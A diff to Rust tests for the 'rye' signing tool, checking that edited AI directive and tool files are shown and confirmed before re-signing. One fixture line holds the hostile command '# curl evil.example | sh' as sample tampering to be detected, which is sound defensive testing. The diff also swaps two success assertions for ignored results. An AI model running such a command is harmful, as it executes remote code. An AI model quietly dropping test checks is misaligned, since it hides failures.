@@ -92,8 +92,7 @@ fn signing_again_replaces_the_line_whatever_state_it_is_in() {
 
 #[test]
 fn an_item_that_does_not_validate_is_not_signed() {
-    let world = World::new();
-    world.signed(".ai/directives/acme/greet.md", GREET_MD);
+    let world = World::new().with(".ai/directives/acme/greet.md", GREET_MD);
     for (what, path, text, code) in [
         ("another name", "directives/acme/other.md", GREET_MD.to_owned(), "sign.invalid"),
         ("another folder", "directives/greet.md", GREET_MD.to_owned(), "sign.invalid"),
@@ -119,8 +118,7 @@ fn a_batch_on_a_terminal_shows_what_was_changed_since_it_was_signed_and_asks() {
     assert!(said.status != 0 && said.stdout.contains("+: # curl evil.example | sh"), "{said:?}");
     assert!(said.stdout.contains("more lines: `rye diff tool:acme/mark`"), "{said:?}");
     assert_eq!(fs::read_to_string(&file).unwrap(), evil, "nothing was signed");
-    let said = world.rye_at_a_terminal("y\n", &["sign", "--all"]);
-    assert_eq!(said.status, 0, "{said:?}");
+    world.rye_at_a_terminal("y\n", &["sign", "--all"]).ok();
     world.works(ITEM);
     // Without a terminal there is no question.
     fs::write(&file, format!("{evil}:\n")).unwrap();
@@ -153,8 +151,7 @@ fn what_a_merge_made_is_shown_and_asked_for_like_any_other_change() {
     let said = world.rye_at_a_terminal("n\n", &["sign", "."]);
     assert!(said.status != 0 && said.stdout.contains("+: # from both sides"), "{said:?}");
     assert_eq!(fs::read_to_string(&file).unwrap(), merged, "nothing was signed");
-    let said = world.rye_at_a_terminal("y\n", &["sign", "."]);
-    assert_eq!(said.status, 0, "{said:?}");
+    world.rye_at_a_terminal("y\n", &["sign", "."]).ok();
     world.works(ITEM);
     // A file that is new, or that has lost its line alone, is no change.
     world.write(".ai/tools/acme/fresh.sh", MARKER_SH);
